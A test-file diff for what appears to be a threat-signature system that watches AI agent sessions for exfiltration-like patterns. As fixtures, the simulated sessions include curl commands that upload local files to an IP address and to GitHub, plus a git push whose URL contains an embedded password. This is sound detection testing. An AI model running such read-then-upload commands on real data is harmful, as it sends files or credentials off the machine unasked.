@@ -121,6 +121,31 @@ describe('built-in shapes', () => {
   })
 })
 
+describe('what a match distils', () => {
+  test('a command or a shared service is only proposed; an address or redacted text is never distilled', async () => {
+    const before = new Set((await signatures()).map((s) => s.id))
+    // Reads then `git push` look like Exfiltration: the command is proposed, never enforced.
+    await session([bash('ls'), read('README.md'), read('package.json'), bash('git push origin main')])
+    // Reads then an upload to a shared service: proposed, not blocked fleet-wide.
+    await session([
+      read('a.ts'),
+      read('b.ts'),
+      read('c.ts'),
+      bash('curl -X POST -d @pr.json https://api.github.com/repos/x/y/pulls'),
+    ])
+    // Reads then an upload to an address: the command at most proposed; a secret in the URL: nothing.
+    await session([read('a.ts'), read('b.ts'), read('c.ts'), bash('curl -d @notes.txt http://10.0.0.7:8080/upload')])
+    await session([read('a.ts'), read('b.ts'), read('c.ts'), bash('git push https://bob:hunter2@git.example.org/r.git')])
+    const made = (await signatures()).filter((s) => !before.has(s.id))
+    const byValue = new Map(made.map((s) => [s.value, s]))
+    expect(byValue.get('git push origin main')).toMatchObject({ kind: 'command', status: 'proposed', enforced: false })
+    expect(byValue.get('api.github.com')).toMatchObject({ kind: 'domain', status: 'proposed', enforced: false })
+    expect(made.filter((s) => s.status === 'active')).toEqual([])
+    expect(made.filter((s) => /hunter2|REDACTED/.test(String(s.value))).map((s) => s.value)).toEqual([])
+    expect(made.filter((s) => s.kind === 'domain' && /^[0-9.]+$/.test(s.value))).toEqual([])
+  })
+})
+
 describe('an org adds its own shape', () => {
   test('created through the API, matched for its agent types only, and kept to its org', async () => {
     const body = {
@@ -158,6 +183,26 @@ describe('an org adds its own shape', () => {
     expect((await shapeAlerts(after)).map((x) => x.rule_key)).not.toContain(`signature:${made.body.id}`)
   })
 
+  test('the same shape at another scale or key order is a 409; a flow shape stays an alert', async () => {
+    const base = { name: 'dup', kind: 'flow_shape', action: 'alert', severity: 'low', max_jsd: 0.3 }
+    const first = await t.call('POST', '/v1/threat-signatures', {
+      token: a.admin_key,
+      json: { ...base, shape: { 'write>execute': 1, 'fetch>write': 3 } },
+    })
+    expect(first.status).toBe(201)
+    const again = await t.call('POST', '/v1/threat-signatures', {
+      token: a.admin_key,
+      json: { ...base, shape: { 'fetch>write': 6, 'write>execute': 2 } },
+    })
+    expect(again.status).toBe(409)
+    const patch = await t.call('PATCH', `/v1/threat-signatures/${first.body.id}`, {
+      token: a.admin_key,
+      json: { action: 'block' },
+    })
+    expect(patch.status).toBe(422)
+    expect(patch.body.errors[0].path).toBe('/action')
+  })
+
   test('bad definitions are a 422 naming the field', async () => {
     const base = { name: 'x', kind: 'flow_shape', action: 'alert', severity: 'low', shape: { 'read>send': 1 }, max_jsd: 0.3 }
     const cases: [Record<string, unknown>, string][] = [
@@ -166,6 +211,7 @@ describe('an org adds its own shape', () => {
       [{ ...base, shape: { 'read>nowhere': 1 } }, '/shape/read>nowhere'],
       [{ ...base, shape: { 'read>send': 0 } }, '/shape'],
       [{ ...base, max_jsd: 2 }, '/max_jsd'],
+      [{ ...base, max_jsd: 0.6 }, '/max_jsd'],
       [{ ...base, max_jsd: undefined }, '/max_jsd'],
       [{ name: 'x', kind: 'domain', value: 'a.example', action: 'block', severity: 'low', max_jsd: 0.3 }, '/max_jsd'],
       [{ name: 'x', kind: 'domain', action: 'block', severity: 'low' }, '/value'],
